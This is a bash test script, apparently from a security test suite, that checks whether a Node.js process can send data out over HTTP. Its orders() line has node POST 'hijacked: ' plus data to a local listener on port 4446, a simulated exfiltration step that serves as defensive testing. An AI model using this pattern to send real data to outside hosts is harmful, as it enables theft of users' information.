#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# Data leave by the protocol that the server speaks itself.
# workload: node
# orders: orders.js
# program: /usr/bin/node
# deed: socket_connect
# object: 4446

# shellcheck source=tests/attacks/lib.sh
. "${0%/*}/lib.sh"
prepare() { listen 4446; }
orders() { echo "const r = http.request({port: 4446, host: '127.0.0.1', method: 'POST'}); r.on('error', () => 0); r.end('hijacked: ' + items);"; }
proof() { sleep 1; got 'hijacked: '; }
clean() { away; }
main "$@"
